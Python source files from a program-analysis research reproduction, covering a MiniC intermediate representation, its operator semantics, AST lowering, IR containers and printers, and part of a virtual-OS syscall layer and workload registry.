        # empty string an open-but-drained stream returns.
        return connection.recv(count)

    # -- nondeterminism and process services --------------------------------------

    def _sys_time(self):
        return self.world.clock.read()

    def _sys_rand(self):
        return self.world.rng.next_int()

    def _sys_getpid(self):
        return self.world.pid

    def _sys_getenv(self, name):
        if not isinstance(name, str):
            return None
        return self.world.env.get(name)

    def _sys_sleep(self, amount):
        if isinstance(amount, int):
            self.world.clock.advance(amount)
        return 0

    def _sys_exit(self, code=0):
        raise ProgramExit(code if isinstance(code, int) else 0)

    def _sys_print(self, value):
        text = stringify(value)
        self.stdout.append(text)
        self.output_log.append(("print", (text,), len(text)))
        return len(text)

    # -- memory management library (attack-detection sinks) ----------------------

    def _sys_malloc(self, size):
        if not isinstance(size, int) or size < 0:
            size = 0
        address = self._next_alloc
        self._next_alloc += max(16, size + (16 - size % 16) % 16)
        self.allocations.append((size, address))
        return address

    def _sys_free(self, address):
        return 0 if isinstance(address, int) else -1

    # -- explicit annotations ------------------------------------------------------

    def _sys_sink_observe(self, label, value):
        self.observations.append((stringify(label), value))
        return 0

    def _sys_source_read(self, label):
        return self.world.sources.get(stringify(label))

    # -- mutex registry (state only; blocking lives in the scheduler) -----------

    def new_mutex_id(self) -> int:
        mutex_id = self._next_mutex
        self._next_mutex += 1
        return mutex_id
