"""Instruction set of the MiniC IR.

The IR is a flat, instruction-granular CFG: every instruction is a CFG
node and control-flow edges connect instruction indices.  This mirrors
the granularity LDX's instrumentation algorithms assume ("each node"
in Algorithm 1) and lets counter updates attach to individual edges.

Operands are virtual-register names (strings).  User variables keep
their source names; compiler temporaries are named ``.t<N>`` (the dot
makes collisions with user names impossible).
"""

from __future__ import annotations

from typing import List, Optional, Tuple


class FuncRef:
    """A first-class reference to a declared MiniC function.

    Produced when a function name is used as a value; consumed by
    indirect calls.  Two references to the same function compare equal.
    """

    __slots__ = ("name",)

    def __init__(self, name: str) -> None:
        self.name = name

    def __repr__(self) -> str:
        return f"<fn {self.name}>"

    def __eq__(self, other: object) -> bool:
        return isinstance(other, FuncRef) and self.name == other.name

    def __hash__(self) -> int:
        return hash(("FuncRef", self.name))


class Instr:
    """Base instruction.  ``line`` is the MiniC source line (or 0)."""

    __slots__ = ("line",)

    opname = "instr"

    def __init__(self, line: int = 0) -> None:
        self.line = line

    def defs(self) -> Optional[str]:
        """Register written by this instruction, if any."""
        return None

    def uses(self) -> Tuple[str, ...]:
        """Registers read by this instruction."""
        return ()

    def is_terminator(self) -> bool:
        """True for instructions that do not fall through."""
        return False

    def __repr__(self) -> str:
        return f"<{self.opname}>"


class Const(Instr):
    __slots__ = ("dst", "value")
    opname = "const"

    def __init__(self, dst: str, value, line: int = 0) -> None:
        super().__init__(line)
        self.dst = dst
        self.value = value

    def defs(self) -> Optional[str]:
        return self.dst

    def __repr__(self) -> str:
        return f"{self.dst} = const {self.value!r}"


class Move(Instr):
    __slots__ = ("dst", "src")
    opname = "move"

    def __init__(self, dst: str, src: str, line: int = 0) -> None:
        super().__init__(line)
        self.dst = dst
        self.src = src

    def defs(self) -> Optional[str]:
        return self.dst

    def uses(self) -> Tuple[str, ...]:
        return (self.src,)

    def __repr__(self) -> str:
        return f"{self.dst} = {self.src}"


class Binop(Instr):
    __slots__ = ("dst", "op", "left", "right")
    opname = "binop"

    def __init__(self, dst: str, op: str, left: str, right: str, line: int = 0) -> None:
        super().__init__(line)
        self.dst = dst
        self.op = op
        self.left = left
        self.right = right

    def defs(self) -> Optional[str]:
        return self.dst

    def uses(self) -> Tuple[str, ...]:
        return (self.left, self.right)

    def __repr__(self) -> str:
        return f"{self.dst} = {self.left} {self.op} {self.right}"


class Unop(Instr):
    __slots__ = ("dst", "op", "operand")
    opname = "unop"

    def __init__(self, dst: str, op: str, operand: str, line: int = 0) -> None:
        super().__init__(line)
        self.dst = dst
        self.op = op
        self.operand = operand

    def defs(self) -> Optional[str]:
        return self.dst

    def uses(self) -> Tuple[str, ...]:
        return (self.operand,)

    def __repr__(self) -> str:
        return f"{self.dst} = {self.op} {self.operand}"


class LoadIndex(Instr):
    __slots__ = ("dst", "base", "index")
    opname = "loadindex"

    def __init__(self, dst: str, base: str, index: str, line: int = 0) -> None:
        super().__init__(line)
        self.dst = dst
        self.base = base
        self.index = index

    def defs(self) -> Optional[str]:
        return self.dst

    def uses(self) -> Tuple[str, ...]:
        return (self.base, self.index)

    def __repr__(self) -> str:
        return f"{self.dst} = {self.base}[{self.index}]"


class StoreIndex(Instr):
    __slots__ = ("base", "index", "src")
    opname = "storeindex"

    def __init__(self, base: str, index: str, src: str, line: int = 0) -> None:
        super().__init__(line)
        self.base = base
        self.index = index
        self.src = src

    def uses(self) -> Tuple[str, ...]:
        return (self.base, self.index, self.src)

    def __repr__(self) -> str:
        return f"{self.base}[{self.index}] = {self.src}"


class NewList(Instr):
    __slots__ = ("dst", "items")
    opname = "newlist"

    def __init__(self, dst: str, items: List[str], line: int = 0) -> None:
        super().__init__(line)
        self.dst = dst
        self.items = items

    def defs(self) -> Optional[str]:
        return self.dst

    def uses(self) -> Tuple[str, ...]:
        return tuple(self.items)

    def __repr__(self) -> str:
        return f"{self.dst} = [{', '.join(self.items)}]"


class CallDirect(Instr):
    """Call to a statically known user function."""

    __slots__ = ("dst", "func", "args")
    opname = "call"

    def __init__(self, dst: str, func: str, args: List[str], line: int = 0) -> None:
        super().__init__(line)
        self.dst = dst
        self.func = func
        self.args = args

    def defs(self) -> Optional[str]:
        return self.dst

    def uses(self) -> Tuple[str, ...]:
        return tuple(self.args)

    def __repr__(self) -> str:
        return f"{self.dst} = call {self.func}({', '.join(self.args)})"


class CallIndirect(Instr):
    """Call through a function value; target unknown at compile time."""

    __slots__ = ("dst", "callee", "args")
    opname = "icall"

    def __init__(self, dst: str, callee: str, args: List[str], line: int = 0) -> None:
        super().__init__(line)
        self.dst = dst
        self.callee = callee
        self.args = args

    def defs(self) -> Optional[str]:
        return self.dst

    def uses(self) -> Tuple[str, ...]:
        return (self.callee,) + tuple(self.args)

    def __repr__(self) -> str:
        return f"{self.dst} = icall {self.callee}({', '.join(self.args)})"


class CallBuiltin(Instr):
    """Call to a pure intrinsic; never reaches the virtual OS."""

    __slots__ = ("dst", "name", "args")
    opname = "builtin"

    def __init__(self, dst: str, name: str, args: List[str], line: int = 0) -> None:
        super().__init__(line)
        self.dst = dst
        self.name = name
        self.args = args

    def defs(self) -> Optional[str]:
        return self.dst

    def uses(self) -> Tuple[str, ...]:
        return tuple(self.args)

    def __repr__(self) -> str:
        return f"{self.dst} = builtin {self.name}({', '.join(self.args)})"


class Syscall(Instr):
    """A syscall builtin — the unit of LDX counter alignment."""

    __slots__ = ("dst", "name", "args")
    opname = "syscall"

    def __init__(self, dst: str, name: str, args: List[str], line: int = 0) -> None:
        super().__init__(line)
        self.dst = dst
        self.name = name
        self.args = args

    def defs(self) -> Optional[str]:
        return self.dst

    def uses(self) -> Tuple[str, ...]:
        return tuple(self.args)

    def __repr__(self) -> str:
        return f"{self.dst} = syscall {self.name}({', '.join(self.args)})"


class Jump(Instr):
    __slots__ = ("target",)
    opname = "jump"

    def __init__(self, target: int, line: int = 0) -> None:
        super().__init__(line)
        self.target = target

    def is_terminator(self) -> bool:
        return True

    def __repr__(self) -> str:
        return f"jump @{self.target}"


class CJump(Instr):
    __slots__ = ("cond", "true_target", "false_target")
    opname = "cjump"

    def __init__(self, cond: str, true_target: int, false_target: int, line: int = 0) -> None:
        super().__init__(line)
        self.cond = cond
        self.true_target = true_target
        self.false_target = false_target

    def uses(self) -> Tuple[str, ...]:
        return (self.cond,)

    def is_terminator(self) -> bool:
        return True

    def __repr__(self) -> str:
        return f"cjump {self.cond} ? @{self.true_target} : @{self.false_target}"


class Ret(Instr):
    __slots__ = ("src",)
    opname = "ret"

    def __init__(self, src: Optional[str], line: int = 0) -> None:
        super().__init__(line)
        self.src = src

    def uses(self) -> Tuple[str, ...]:
        return (self.src,) if self.src is not None else ()

    def is_terminator(self) -> bool:
        return True

    def __repr__(self) -> str:
        return f"ret {self.src}" if self.src is not None else "ret"


class Nop(Instr):
    """Structural node: function entry/exit markers and join points."""

    __slots__ = ("note",)
    opname = "nop"

    def __init__(self, note: str = "", line: int = 0) -> None:
        super().__init__(line)
        self.note = note

    def __repr__(self) -> str:
        return f"nop {self.note}".rstrip()
