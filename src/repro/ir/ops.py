"""Operator semantics for MiniC values.

MiniC values map onto Python values: ``int``, ``bool``, ``str``,
``list``, ``None`` (nil) and :class:`repro.ir.instructions.FuncRef`.
This module is the single definition of what every operator does; the
interpreter, the constant evaluator in the lowering phase, and the
taint baselines all call into it.
"""

from __future__ import annotations

from repro.errors import InterpreterError
from repro.ir.instructions import FuncRef


def truthy(value) -> bool:
    """MiniC truthiness: nil, 0, false, "" and [] are false."""
    if value is None:
        return False
    if isinstance(value, bool):
        return value
    if isinstance(value, int):
        return value != 0
    if isinstance(value, (str, list)):
        return len(value) > 0
    if isinstance(value, FuncRef):
        return True
    raise InterpreterError(f"no truth value for {type(value).__name__}")


def _require_int(value, op: str) -> int:
    if isinstance(value, bool):
        return int(value)
    if isinstance(value, int):
        return value
    raise InterpreterError(f"operator {op!r} needs an int, got {type(value).__name__}")


def _binop_add(left, right):
    if isinstance(left, str) or isinstance(right, str):
        # String concatenation stringifies the other side, which the
        # workload programs rely on for message building.
        return _stringify(left) + _stringify(right)
    if isinstance(left, list) and isinstance(right, list):
        return left + right
    return _require_int(left, "+") + _require_int(right, "+")


def _binop_sub(left, right):
    return _require_int(left, "-") - _require_int(right, "-")


def _binop_mul(left, right):
    # String repetition is commutative, as in Python/C string libs.
    if isinstance(left, str) and isinstance(right, int):
        return left * right
    if isinstance(right, str) and isinstance(left, int):
        return right * left
    return _require_int(left, "*") * _require_int(right, "*")


def _binop_div(left, right):
    divisor = _require_int(right, "/")
    if divisor == 0:
        raise InterpreterError("division by zero")
    # C-style truncating division in pure integer math: routing through
    # float (``int(a / b)``) silently loses precision past 2**53.
    dividend = _require_int(left, "/")
    quotient = abs(dividend) // abs(divisor)
    return quotient if (dividend >= 0) == (divisor >= 0) else -quotient


def _binop_mod(left, right):
    divisor = _require_int(right, "%")
    if divisor == 0:
        raise InterpreterError("modulo by zero")
    dividend = _require_int(left, "%")
    result = abs(dividend) % abs(divisor)
    return result if dividend >= 0 else -result


def _binop_eq(left, right):
    return _equals(left, right)


def _binop_ne(left, right):
    return not _equals(left, right)


def _binop_lt(left, right):
    return _compare("<", left, right)


def _binop_le(left, right):
    return _compare("<=", left, right)


def _binop_gt(left, right):
    return _compare(">", left, right)


def _binop_ge(left, right):
    return _compare(">=", left, right)


def _unop_neg(operand):
    return -_require_int(operand, "-")


def _unop_not(operand):
    return not truthy(operand)


# Operator tables: the single source of operator semantics.  The switch
# interpreter dispatches through apply_binop/apply_unop; the threaded
# backend resolves the handler once at compile time and calls it
# directly per execution.
BINOP_FUNCS = {
    "+": _binop_add,
    "-": _binop_sub,
    "*": _binop_mul,
    "/": _binop_div,
    "%": _binop_mod,
    "==": _binop_eq,
    "!=": _binop_ne,
    "<": _binop_lt,
    "<=": _binop_le,
    ">": _binop_gt,
    ">=": _binop_ge,
}

UNOP_FUNCS = {
    "-": _unop_neg,
    "not": _unop_not,
}


def apply_binop(op: str, left, right):
    """Evaluate ``left op right`` with MiniC semantics."""
    func = BINOP_FUNCS.get(op)
    if func is None:
        raise InterpreterError(f"unknown binary operator {op!r}")
    return func(left, right)


def apply_unop(op: str, operand):
    """Evaluate a unary operator with MiniC semantics."""
    func = UNOP_FUNCS.get(op)
    if func is None:
        raise InterpreterError(f"unknown unary operator {op!r}")
    return func(operand)


def _stringify(value) -> str:
    # Exact-type dispatch, most common shapes first (bool before int:
    # bool subclasses int, and `type` checks are exact).
    vt = type(value)
    if vt is str:
        return value
    if vt is int:
        return str(value)
    if vt is bool:
        return "true" if value else "false"
    if value is None:
        return "nil"
    if vt is list:
        return "[" + ",".join(_stringify(v) for v in value) + "]"
    if isinstance(value, FuncRef):
        return f"<fn {value.name}>"
    raise InterpreterError(f"cannot stringify {type(value).__name__}")


def stringify(value) -> str:
    """Public stringification used by to_str and string concatenation."""
    return _stringify(value)


def _equals(left, right) -> bool:
    if isinstance(left, bool) or isinstance(right, bool):
        # bool compares equal to its int value, as in C.
        if isinstance(left, (bool, int)) and isinstance(right, (bool, int)):
            return int(left) == int(right)
    if type(left) is not type(right):
        if left is None or right is None:
            return left is right
        if isinstance(left, int) and isinstance(right, int):
            return left == right
        return False
    return left == right


def _compare(op: str, left, right) -> bool:
    if isinstance(left, str) and isinstance(right, str):
        pass  # lexicographic
    else:
        left = _require_int(left, op)
        right = _require_int(right, op)
    if op == "<":
        return left < right
    if op == "<=":
        return left <= right
    if op == ">":
        return left > right
    return left >= right
