"""AST-to-IR lowering.

Produces one flat instruction array per function with explicit jumps.
Structural properties established here (and relied on by the CFG and
instrumentation phases):

* index 0 is a ``nop entry`` node, the last index is the unique
  ``nop exit`` node;
* every loop has a single head node (``nop loophead``) that is the
  target of its back edges, and a single join node (``nop loopjoin``)
  just past the loop;
* ``ret`` instructions transfer to the exit node.
"""

from __future__ import annotations

from typing import Dict, List, Optional

from repro.errors import LoweringError
from repro.ir import instructions as ins
from repro.ir import ops
from repro.ir.function import IRFunction, IRModule
from repro.lang import ast_nodes as ast
from repro.lang.intrinsics import PURE_BUILTINS, SYSCALL_BUILTINS
from repro.lang.parser import parse
from repro.lang.semantics import ProgramInfo, check_program


def lower_program(program: ast.Program, info: ProgramInfo) -> IRModule:
    """Lower a checked AST into an IR module."""
    module = IRModule()
    for decl in program.globals:
        module.global_values[decl.name] = _eval_const(decl.initializer)
    for function in program.functions:
        module.add_function(_FunctionLowerer(function, info).lower())
    return module


def compile_source(source: str, require_main: bool = True) -> IRModule:
    """Parse, check and lower MiniC source text in one step."""
    program = parse(source)
    info = check_program(program, require_main=require_main)
    module = lower_program(program, info)
    module.source_lines = source.count("\n") + 1
    return module


def _eval_const(expr: ast.Expr):
    """Evaluate a constant global initializer (validated by semantics)."""
    if isinstance(expr, ast.IntLiteral):
        return expr.value
    if isinstance(expr, ast.StringLiteral):
        return expr.value
    if isinstance(expr, ast.BoolLiteral):
        return expr.value
    if isinstance(expr, ast.NilLiteral):
        return None
    if isinstance(expr, ast.ListLiteral):
        return [_eval_const(item) for item in expr.items]
    if isinstance(expr, ast.Unary):
        return ops.apply_unop(expr.op, _eval_const(expr.operand))
    if isinstance(expr, ast.Binary):
        return ops.apply_binop(expr.op, _eval_const(expr.left), _eval_const(expr.right))
    raise LoweringError("non-constant global initializer")


class _LoopContext:
    """Jump bookkeeping for one lexical loop."""

    def __init__(self, head: int) -> None:
        self.head = head
        self.continue_target: Optional[int] = None  # patched for 'for' loops
        self.break_jumps: List[int] = []
        self.continue_jumps: List[int] = []


class _FunctionLowerer:
    """Lowers a single function declaration."""

    def __init__(self, function: ast.FunctionDecl, info: ProgramInfo) -> None:
        self._ast = function
        self._info = info
        self._fn = IRFunction(function.name, list(function.params))
        self._temp_count = 0
        self._loops: List[_LoopContext] = []

    # -- helpers -------------------------------------------------------------

    def _temp(self) -> str:
        name = f".t{self._temp_count}"
        self._temp_count += 1
        return name

    def _emit(self, instr: ins.Instr) -> int:
        return self._fn.append(instr)

    def _next_index(self) -> int:
        return len(self._fn.instrs)

    def lower(self) -> IRFunction:
        self._emit(ins.Nop("entry", self._ast.location.line))
        self._lower_block(self._ast.body)
        # Implicit 'return nil' when execution can fall off the end.
        last = self._fn.instrs[-1]
        if not last.is_terminator():
            self._emit(ins.Ret(None))
        self._emit(ins.Nop("exit"))
        self._fn.seal()
        return self._fn

    # -- statements ----------------------------------------------------------

    def _lower_block(self, block: ast.Block) -> None:
        for stmt in block.statements:
            self._lower_stmt(stmt)

    def _lower_stmt(self, stmt: ast.Stmt) -> None:
        if isinstance(stmt, ast.Block):
            self._lower_block(stmt)
        elif isinstance(stmt, ast.VarDecl):
            value = self._lower_expr(stmt.initializer)
            self._emit(ins.Move(stmt.name, value, stmt.location.line))
        elif isinstance(stmt, ast.Assign):
            self._lower_assign(stmt)
        elif isinstance(stmt, ast.ExprStmt):
            self._lower_expr(stmt.expr)
        elif isinstance(stmt, ast.If):
            self._lower_if(stmt)
        elif isinstance(stmt, ast.While):
            self._lower_while(stmt)
        elif isinstance(stmt, ast.For):
            self._lower_for(stmt)
        elif isinstance(stmt, ast.Break):
            context = self._loops[-1]
            context.break_jumps.append(self._emit(ins.Jump(-1, stmt.location.line)))
        elif isinstance(stmt, ast.Continue):
            context = self._loops[-1]
            context.continue_jumps.append(self._emit(ins.Jump(-1, stmt.location.line)))
        elif isinstance(stmt, ast.Return):
            src = self._lower_expr(stmt.value) if stmt.value is not None else None
            self._emit(ins.Ret(src, stmt.location.line))
        else:  # pragma: no cover
            raise LoweringError(f"unknown statement {type(stmt).__name__}")

    def _lower_assign(self, stmt: ast.Assign) -> None:
        if isinstance(stmt.target, ast.VarRef):
            value = self._lower_expr(stmt.value)
            self._emit(ins.Move(stmt.target.name, value, stmt.location.line))
        elif isinstance(stmt.target, ast.Index):
            base = self._lower_expr(stmt.target.base)
            index = self._lower_expr(stmt.target.index)
            value = self._lower_expr(stmt.value)
            self._emit(ins.StoreIndex(base, index, value, stmt.location.line))
        else:  # pragma: no cover
            raise LoweringError("invalid assignment target")

    def _lower_if(self, stmt: ast.If) -> None:
        cond = self._lower_expr(stmt.condition)
        cjump_at = self._emit(ins.CJump(cond, -1, -1, stmt.location.line))
        then_start = self._next_index()
        self._lower_stmt(stmt.then_block)
        if stmt.else_block is not None:
            skip_else_at = self._emit(ins.Jump(-1))
            else_start = self._next_index()
            self._lower_stmt(stmt.else_block)
            join = self._emit(ins.Nop("join"))
            self._fn.instrs[cjump_at].true_target = then_start
            self._fn.instrs[cjump_at].false_target = else_start
            self._fn.instrs[skip_else_at].target = join
        else:
            join = self._emit(ins.Nop("join"))
            self._fn.instrs[cjump_at].true_target = then_start
            self._fn.instrs[cjump_at].false_target = join

    def _lower_while(self, stmt: ast.While) -> None:
        head = self._emit(ins.Nop("loophead", stmt.location.line))
        context = _LoopContext(head)
        context.continue_target = head
        self._loops.append(context)
        cond = self._lower_expr(stmt.condition)
        cjump_at = self._emit(ins.CJump(cond, -1, -1, stmt.location.line))
        body_start = self._next_index()
        self._lower_stmt(stmt.body)
        self._emit(ins.Jump(head))  # the back edge
        join = self._emit(ins.Nop("loopjoin"))
        self._fn.instrs[cjump_at].true_target = body_start
        self._fn.instrs[cjump_at].false_target = join
        self._loops.pop()
        self._patch_loop_jumps(context, break_target=join)

    def _lower_for(self, stmt: ast.For) -> None:
        if stmt.init is not None:
            self._lower_stmt(stmt.init)
        head = self._emit(ins.Nop("loophead", stmt.location.line))
        context = _LoopContext(head)
        self._loops.append(context)
        if stmt.condition is not None:
            cond = self._lower_expr(stmt.condition)
            cjump_at = self._emit(ins.CJump(cond, -1, -1, stmt.location.line))
        else:
            cjump_at = None
        body_start = self._next_index()
        self._lower_stmt(stmt.body)
        step_start = self._next_index()
        context.continue_target = step_start
        if stmt.step is not None:
            self._lower_stmt(stmt.step)
        self._emit(ins.Jump(head))  # the back edge
        join = self._emit(ins.Nop("loopjoin"))
        if cjump_at is not None:
            self._fn.instrs[cjump_at].true_target = body_start
            self._fn.instrs[cjump_at].false_target = join
        self._loops.pop()
        self._patch_loop_jumps(context, break_target=join)

    def _patch_loop_jumps(self, context: _LoopContext, break_target: int) -> None:
        for index in context.break_jumps:
            self._fn.instrs[index].target = break_target
        target = context.continue_target
        if target is None:  # pragma: no cover - always set by callers
            target = context.head
        for index in context.continue_jumps:
            self._fn.instrs[index].target = target

    # -- expressions ---------------------------------------------------------

    def _lower_expr(self, expr: ast.Expr) -> str:
        line = expr.location.line if hasattr(expr, "location") else 0
        if isinstance(expr, ast.IntLiteral):
            dst = self._temp()
            self._emit(ins.Const(dst, expr.value, line))
            return dst
        if isinstance(expr, ast.StringLiteral):
            dst = self._temp()
            self._emit(ins.Const(dst, expr.value, line))
            return dst
        if isinstance(expr, ast.BoolLiteral):
            dst = self._temp()
            self._emit(ins.Const(dst, expr.value, line))
            return dst
        if isinstance(expr, ast.NilLiteral):
            dst = self._temp()
            self._emit(ins.Const(dst, None, line))
            return dst
        if isinstance(expr, ast.ListLiteral):
            items = [self._lower_expr(item) for item in expr.items]
            dst = self._temp()
            self._emit(ins.NewList(dst, items, line))
            return dst
        if isinstance(expr, ast.VarRef):
            return self._lower_var_ref(expr)
        if isinstance(expr, ast.Index):
            base = self._lower_expr(expr.base)
            index = self._lower_expr(expr.index)
            dst = self._temp()
            self._emit(ins.LoadIndex(dst, base, index, line))
            return dst
        if isinstance(expr, ast.Unary):
            operand = self._lower_expr(expr.operand)
            dst = self._temp()
            self._emit(ins.Unop(dst, expr.op, operand, line))
            return dst
        if isinstance(expr, ast.Binary):
            left = self._lower_expr(expr.left)
            right = self._lower_expr(expr.right)
            dst = self._temp()
            self._emit(ins.Binop(dst, expr.op, left, right, line))
            return dst
        if isinstance(expr, ast.Logical):
            return self._lower_logical(expr)
        if isinstance(expr, ast.Call):
            return self._lower_call(expr)
        raise LoweringError(f"unknown expression {type(expr).__name__}")

    def _lower_var_ref(self, expr: ast.VarRef) -> str:
        if expr.name in self._info.function_arity:
            # A function name used as a value: materialize a FuncRef.
            dst = self._temp()
            self._emit(ins.Const(dst, ins.FuncRef(expr.name), expr.location.line))
            return dst
        return expr.name

    def _lower_logical(self, expr: ast.Logical) -> str:
        """Short-circuit and/or via control flow into a result temp."""
        line = expr.location.line
        dst = self._temp()
        left = self._lower_expr(expr.left)
        self._emit(ins.Move(dst, left, line))
        cjump_at = self._emit(ins.CJump(dst, -1, -1, line))
        rhs_start = self._next_index()
        right = self._lower_expr(expr.right)
        self._emit(ins.Move(dst, right, line))
        join = self._emit(ins.Nop("join"))
        if expr.op == "and":
            self._fn.instrs[cjump_at].true_target = rhs_start
            self._fn.instrs[cjump_at].false_target = join
        else:  # or
            self._fn.instrs[cjump_at].true_target = join
            self._fn.instrs[cjump_at].false_target = rhs_start
        return dst

    def _lower_call(self, expr: ast.Call) -> str:
        line = expr.location.line
        args = [self._lower_expr(arg) for arg in expr.args]
        dst = self._temp()
        callee = expr.callee
        if isinstance(callee, ast.VarRef):
            name = callee.name
            is_variable = (
                name in self._info.global_names
                or name in self._info.locals_by_function.get(self._ast.name, set())
                or name in self._ast.params
            )
            # locals_by_function may not include this function yet (it is
            # populated during checking); fall back on declaration order:
            # semantics guarantees names resolve, so if the name is not a
            # function or intrinsic it must be a variable.
            if not is_variable:
                if name in self._info.function_arity:
                    self._emit(ins.CallDirect(dst, name, args, line))
                    return dst
                if name in PURE_BUILTINS:
                    self._emit(ins.CallBuiltin(dst, name, args, line))
                    return dst
                if name in SYSCALL_BUILTINS:
                    self._emit(ins.Syscall(dst, name, args, line))
                    return dst
            self._emit(ins.CallIndirect(dst, name, args, line))
            return dst
        callee_reg = self._lower_expr(callee)
        self._emit(ins.CallIndirect(dst, callee_reg, args, line))
        return dst
