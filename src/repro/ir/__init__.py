"""MiniC IR: instruction set, function containers and AST lowering."""

from repro.ir.function import IRFunction, IRModule
from repro.ir.instructions import FuncRef
from repro.ir.lowering import compile_source, lower_program
from repro.ir.printer import format_function, format_module

__all__ = [
    "IRFunction",
    "IRModule",
    "FuncRef",
    "compile_source",
    "lower_program",
    "format_function",
    "format_module",
]
