"""IR function and module containers.

An :class:`IRFunction` is a flat instruction array with implicit
fallthrough edges and explicit jump edges.  Index 0 is the entry node (a
``nop entry``), and the last index is the unique exit node (``nop
exit``); every ``ret`` transfers to the exit node.  The unique exit
makes Algorithm 1's ``FCNT[F] = cnt[exit]`` well defined.
"""

from __future__ import annotations

from typing import Dict, Iterable, List, Optional, Tuple

from repro.errors import LoweringError
from repro.ir import instructions as ins


class IRFunction:
    """One lowered MiniC function."""

    def __init__(self, name: str, params: List[str]) -> None:
        self.name = name
        self.params = params
        self.instrs: List[ins.Instr] = []
        # Per-index successor tuples, frozen by seal() once jump targets
        # are backpatched (None while the function is under construction).
        self._succ_cache: Optional[Tuple[Tuple[int, ...], ...]] = None

    # -- construction -------------------------------------------------------

    def append(self, instr: ins.Instr) -> int:
        """Append an instruction; return its index."""
        self.instrs.append(instr)
        return len(self.instrs) - 1

    def seal(self) -> None:
        """Validate structural invariants after lowering."""
        self._succ_cache = None
        if not self.instrs:
            raise LoweringError(f"{self.name}: empty function body")
        exit_instr = self.instrs[-1]
        if not (isinstance(exit_instr, ins.Nop) and exit_instr.note == "exit"):
            raise LoweringError(f"{self.name}: last instruction must be the exit nop")
        last = len(self.instrs) - 1
        for index, instr in enumerate(self.instrs):
            for succ in self.successors(index):
                if not (0 <= succ < len(self.instrs)):
                    raise LoweringError(
                        f"{self.name}: @{index} {instr!r} targets invalid @{succ}"
                    )
            if index == last:
                continue
            if index == last - 1 and not instr.is_terminator():
                # The instruction just before exit may fall through into it.
                continue
        # Freeze the successor table: control flow is final after seal,
        # and the interpreter asks for successors on every syscall
        # completion and call return.
        self._succ_cache = tuple(
            self._compute_successors(index) for index in range(len(self.instrs))
        )

    # -- graph views ----------------------------------------------------------

    @property
    def entry(self) -> int:
        return 0

    @property
    def exit(self) -> int:
        return len(self.instrs) - 1

    def successors(self, index: int) -> Tuple[int, ...]:
        """Control-flow successors of the instruction at *index*."""
        cache = self._succ_cache
        if cache is not None:
            return cache[index]
        return self._compute_successors(index)

    def _compute_successors(self, index: int) -> Tuple[int, ...]:
        instr = self.instrs[index]
        if isinstance(instr, ins.Jump):
            return (instr.target,)
        if isinstance(instr, ins.CJump):
            if instr.true_target == instr.false_target:
                return (instr.true_target,)
            return (instr.true_target, instr.false_target)
        if isinstance(instr, ins.Ret):
            return (self.exit,)
        if index == self.exit:
            return ()
        return (index + 1,)

    def predecessor_map(self) -> Dict[int, List[int]]:
        """Map each index to the list of its predecessors."""
        preds: Dict[int, List[int]] = {i: [] for i in range(len(self.instrs))}
        for index in range(len(self.instrs)):
            for succ in self.successors(index):
                preds[succ].append(index)
        return preds

    def edges(self) -> Iterable[Tuple[int, int]]:
        """All control-flow edges as (src, dst) pairs."""
        for index in range(len(self.instrs)):
            for succ in self.successors(index):
                yield (index, succ)

    def syscall_indices(self) -> List[int]:
        """Indices of all Syscall instructions."""
        return [
            i for i, instr in enumerate(self.instrs) if isinstance(instr, ins.Syscall)
        ]

    def __len__(self) -> int:
        return len(self.instrs)

    def __repr__(self) -> str:
        return f"<IRFunction {self.name}({', '.join(self.params)}) {len(self)} instrs>"


class IRModule:
    """A lowered program: functions plus evaluated global initial values."""

    def __init__(self) -> None:
        self.functions: Dict[str, IRFunction] = {}
        self.global_values: Dict[str, object] = {}
        self.source_lines = 0

    def add_function(self, function: IRFunction) -> None:
        if function.name in self.functions:
            raise LoweringError(f"duplicate function {function.name!r}")
        self.functions[function.name] = function

    def function(self, name: str) -> IRFunction:
        if name not in self.functions:
            raise LoweringError(f"unknown function {name!r}")
        return self.functions[name]

    @property
    def total_instructions(self) -> int:
        return sum(len(f) for f in self.functions.values())

    def __repr__(self) -> str:
        return f"<IRModule {len(self.functions)} functions, {self.total_instructions} instrs>"
