"""Human-readable dumps of IR functions and modules (for debugging and
for golden tests on the lowering phase).

Both entry points accept an optional *annotate* hook so analysis layers
can decorate the dump without the printer knowing about them:
``annotate(function_name, index, instr)`` returns a comment string (or
``None``/empty for no comment), appended as ``; <comment>``.  The
``repro analyze --dump-ir`` command uses it to show def-use chains and
control-dependence facts inline.
"""

from __future__ import annotations

from typing import Callable, List, Optional

from repro.ir.function import IRFunction, IRModule
from repro.ir.instructions import Instr

Annotator = Callable[[str, int, Instr], Optional[str]]


def format_function(
    function: IRFunction, annotate: Optional[Annotator] = None
) -> str:
    """Render one function as numbered instructions."""
    lines: List[str] = [f"fn {function.name}({', '.join(function.params)}):"]
    for index, instr in enumerate(function.instrs):
        rendered = f"  @{index:<4} {instr!r}"
        if annotate is not None:
            comment = annotate(function.name, index, instr)
            if comment:
                rendered = f"{rendered}  ; {comment}"
        lines.append(rendered)
    return "\n".join(lines)


def format_module(module: IRModule, annotate: Optional[Annotator] = None) -> str:
    """Render a whole module."""
    parts: List[str] = []
    if module.global_values:
        for name, value in sorted(module.global_values.items()):
            parts.append(f"global {name} = {value!r}")
        parts.append("")
    for name in sorted(module.functions):
        parts.append(format_function(module.functions[name], annotate))
        parts.append("")
    return "\n".join(parts).rstrip() + "\n"
