"""Human-readable dumps of IR functions and modules (for debugging and
for golden tests on the lowering phase)."""

from __future__ import annotations

from typing import List

from repro.ir.function import IRFunction, IRModule


def format_function(function: IRFunction) -> str:
    """Render one function as numbered instructions."""
    lines: List[str] = [f"fn {function.name}({', '.join(function.params)}):"]
    for index, instr in enumerate(function.instrs):
        lines.append(f"  @{index:<4} {instr!r}")
    return "\n".join(lines)


def format_module(module: IRModule) -> str:
    """Render a whole module."""
    parts: List[str] = []
    if module.global_values:
        for name, value in sorted(module.global_values.items()):
            parts.append(f"global {name} = {value!r}")
        parts.append("")
    for name in sorted(module.functions):
        parts.append(format_function(module.functions[name]))
        parts.append("")
    return "\n".join(parts).rstrip() + "\n"
