"""The workload registry: all 28 benchmark program models."""

from __future__ import annotations

from typing import Dict, List

from repro.errors import WorkloadError
from repro.workloads.base import CONCURRENCY, NETSYS, SPEC, VULN, Workload
from repro.workloads.programs.concurrency import CONCURRENCY_WORKLOADS
from repro.workloads.programs.netsys import NETSYS_WORKLOADS
from repro.workloads.programs.spec import SPEC_WORKLOADS
from repro.workloads.programs.vuln import VULN_WORKLOADS

ALL_WORKLOADS: List[Workload] = (
    SPEC_WORKLOADS + NETSYS_WORKLOADS + VULN_WORKLOADS + CONCURRENCY_WORKLOADS
)

